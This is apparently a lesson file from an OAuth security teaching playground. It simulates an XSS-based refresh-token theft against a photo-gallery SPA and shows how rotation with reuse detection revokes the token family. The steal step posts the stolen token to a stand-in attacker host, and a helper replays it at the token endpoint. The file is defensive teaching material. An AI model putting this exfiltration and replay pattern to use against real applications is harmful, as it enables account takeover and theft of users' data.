"""A stolen refresh token: used until it expires without rotation, caught with it."""

from playground import Lesson

SPA = "photo-gallery-spa"
ONE_HOUR = 3600
TWELVE_HOURS = 12 * 3600
REUSED = "The refresh token was already used; every token of this grant is now revoked."
REVOKED = "The refresh token has been revoked."

lesson = Lesson(
    "Refresh token theft",
    level="intermediate",
    kind="attack",
    weakness="as.refresh_no_rotation",
    summary=(
        "A script injected into Photo Gallery (XSS) copies the app's refresh "
        "token to Mallory. Without rotation she and the app both refresh "
        "for as long as the token lives, and nobody can tell. With rotation and "
        "reuse detection, the first time both use the same token the "
        "authorization server revokes the whole family, Mallory's tokens too."
    ),
    defence="""
- **Rotate refresh tokens of public clients** and detect reuse: every
  refresh returns a new refresh token and retires the old one; if a retired
  one comes back, revoke every token of that grant (RFC 9700 4.14.2,
  RFC 6819 5.2.2.3). The defended run shows it: the app's second use of the
  token Mallory had already spent raised `refresh_token.reused`.
- **Or sender-constrain them**, which is stronger: a refresh token bound to
  the client's key with DPoP (RFC 9449) or mutual TLS (RFC 8705) is useless
  to whoever copies it *without the key* (RFC 9700 2.2.2). A non-extractable
  WebCrypto key cannot be sent away, but an injected script can still use it
  while it runs in the page (RFC 9700 4.10.1). Confidential clients also
  bind it by authenticating at the token endpoint (RFC 6749 10.4).
- **Rotation detects, it does not prevent.** Mallory kept access until the
  app's next refresh: an hour here, and up to the grant's absolute lifetime
  (7 days for a public client) if Alice never came back. Keep access tokens
  short (RFC 6819 5.1.5.3), and let refresh tokens expire when idle.
- **Keep tokens away from page scripts.** A token in `localStorage` is one
  XSS away from theft; a backend-for-frontend that keeps tokens server-side
  and gives the browser only a session cookie removes the target.
""",
)


def mallory_refreshes(run, refresh_token):
    """Mallory sends the refresh token as Photo Gallery would: a public client
    has no secret, so `client_id` is all it takes (RFC 6749 6, 2.3)."""
    return run.attacker.token_request(
        {
            "grant_type": "refresh_token",
            "refresh_token": refresh_token,
            "client_id": SPA,
        }
    )


@lesson.step("Photo Gallery signs Alice in and keeps a refresh token")
def sign_in(run):
    """
    Photo Gallery, the single-page app of lessons 03 and 04, signs Alice in
    with the code grant and PKCE. The token response carries an access token
    (one hour) and a **refresh token**. The app keeps both in the browser's
    storage, where its own script can read them, and so can any other
    script running in its page.
    """
    response = run.code_flow(run.spa, run.browser, "alice", "wonderland")
    run.app_refresh_token = run.spa.tokens.get("refresh_token", "")
    run.check("the token endpoint answers 200", response.status_code == 200)
    run.check("a refresh token came with it", bool(run.app_refresh_token))


@lesson.step("An injected script sends the refresh token to Mallory")
def steal(run):
    """
    A photo caption Mallory wrote is shown without escaping, so her script
    runs inside Photo Gallery's page (cross-site scripting). It reads the
    tokens from storage and posts the refresh token to her site.

    Read the request: `POST /steal` from Alice's **browser** to
    **attacker.test**, `refresh_token=...` in the body. Nothing
    in OAuth can stop a script that runs with the app's own privileges; what
    matters now is how much the stolen token is worth.
    """
    # The injected script runs in the app's page: a no-cors fetch() needs no
    # permission from Mallory's site, and the answer is none of its business.
    run.browser.fetch(
        f"{run.attacker.url}/steal",
        method="POST",
        data={"refresh_token": run.app_refresh_token},
        mode="no-cors",
        origin=run.client_url,
    )
    run.check(
        "Mallory's site received the app's refresh token",
        run.attacker.loot("refresh_token") == [run.app_refresh_token],
    )


@lesson.step("Mallory refreshes first and reads Alice's photos")
def mallory_first(run):
    """
    Mallory sends `POST /token` with `grant_type=refresh_token`, the stolen
    token and Photo Gallery's `client_id`. A public client has no secret,
    so the authorization server cannot tell her from the app. **200** in
    both runs: she got there first. With the new access token she reads
    Alice's photos (**200**).

    Compare the token responses of the two runs.

    **Weakness on** (`as.refresh_no_rotation`): no new refresh token. The
    stolen one stays valid and the app's copy does too: one token, two
    holders.

    **Defended**: a **new** refresh token (rotation, RFC 9700 4.14.2). The
    stolen one is now marked used, and the app still holds that same, used
    token.
    """
    stolen = run.attacker.loot("refresh_token")[-1]
    response = mallory_refreshes(run, stolen)
    body = response.json()
    run.mallory_refresh_token = body.get("refresh_token", stolen)
    photos = run.attacker.call_api("/api/photos", body.get("access_token", ""))
    run.check("the token endpoint answers 200 to Mallory", response.status_code == 200)
    run.check(
        "Mallory reads Alice's photos (200, owner u-1001)",
        photos.status_code == 200 and photos.json().get("owner") == "u-1001",
    )
    if run.weakness_on:
        run.check(
            "no new refresh token: the stolen one stays valid",
            "refresh_token" not in body,
        )
    else:
        run.check(
            "a new refresh token for Mallory: the stolen one is now used",
            body.get("refresh_token") not in (None, stolen),
        )


@lesson.step("An hour later, the app refreshes")
def app_refreshes(run):
    """
    The clock moves one hour: both access tokens have expired. Photo Gallery
    refreshes with the refresh token it has always had.

    **Weakness on**: **200**. The app carries on, Alice notices nothing, and
    the server has nothing to notice: the same refresh token used by two
    parties looks just like one party using it twice.

    **Defended**: **400** `invalid_grant`, *"The refresh token was already
    used; every token of this grant is now revoked."* The authorization
    server cannot tell which of the two senders is the thief, so it revokes
    the whole family, Mallory's new refresh token included. Look at the
    server event `refresh_token.reused`. Alice has to sign in again: an
    annoyance, and a visible sign that something is wrong.
    """
    run.clock.advance(ONE_HOUR)
    response = run.spa.refresh(run.app_refresh_token)
    body = response.json()
    reused = run.events_named("refresh_token.reused")
    if run.weakness_on:
        run.check(
            "the token endpoint answers 200 to the app", response.status_code == 200
        )
        run.check("the app gets a fresh access token", "access_token" in body)
        run.check("no refresh_token.reused event: nobody noticed", not reused)
    else:
        run.check(
            "the token endpoint answers 400 to the app", response.status_code == 400
        )
        run.check("the error is invalid_grant", body.get("error") == "invalid_grant")
        run.check(
            f'error_description: "{REUSED}"', body.get("error_description") == REUSED
        )
        run.check(
            "the server logged refresh_token.reused and revoked the family",
            len(reused) == 1 and reused[0].detail.endswith("of this grant revoked"),
            reused[0].detail if reused else "",
        )


@lesson.step("Mallory comes back for more")
def mallory_returns(run):
    """
    Mallory's access token from step 3 has expired too, so she refreshes
    with the newest refresh token she has.

    **Weakness on**: **200** and Alice's photos again.

    **Defended**: **400** `invalid_grant`, *"The refresh token has been
    revoked."* Her token was never used twice; it was revoked with its
    family in step 4. Her old access token is refused by the photos API as
    expired. Her access lasted one hour.
    """
    response = mallory_refreshes(run, run.mallory_refresh_token)
    body = response.json()
    if run.weakness_on:
        photos = run.attacker.call_api("/api/photos", body.get("access_token", ""))
        run.check(
            "the token endpoint answers 200 to Mallory", response.status_code == 200
        )
        run.check(
            "Mallory reads Alice's photos again (200)",
            photos.status_code == 200 and photos.json().get("owner") == "u-1001",
        )
    else:
        old_access = run.attacker.call_api(
            "/api/photos", run.attacker.stolen.get("access_token", "")
        )
        run.check(
            "the token endpoint answers 400 to Mallory", response.status_code == 400
        )
        run.check("the error is invalid_grant", body.get("error") == "invalid_grant")
        run.check(
            f'error_description: "{REVOKED}"', body.get("error_description") == REVOKED
        )
        run.check(
            "her access token from step 3 is refused as expired (401)",
            old_access.status_code == 401
            and "ExpiredSignatureError"
            in old_access.json().get("error_description", ""),
        )


@lesson.step("Twelve hours later")
def twelve_hours_later(run):
    """
    Twelve hours on, both parties refresh once more.

    **Weakness on**: both get **200**. Each use restarts the refresh token's
    idle lifetime (a day, for a public client); only the grant's absolute
    lifetime (7 days) ends it. Until then Mallory keeps a copy of Alice's
    access, and no log line tells them apart.

    **Defended**: Mallory gets **400** again: a revoked family stays
    revoked. When Alice signs in again she starts a new grant, with tokens
    Mallory has never seen (unless the script is still in the page: fix the
    XSS too).
    """
    run.clock.advance(TWELVE_HOURS)
    mallory = mallory_refreshes(run, run.mallory_refresh_token)
    if run.weakness_on:
        app = run.spa.refresh(run.app_refresh_token)
        run.check("the app's refresh answers 200", app.status_code == 200)
        run.check("Mallory's refresh answers 200", mallory.status_code == 200)
        run.check(
            "the server never logged refresh_token.reused",
            not run.events_named("refresh_token.reused"),
        )
    else:
        run.check(
            "Mallory's refresh answers 400 invalid_grant",
            mallory.status_code == 400
            and mallory.json().get("error") == "invalid_grant",
        )
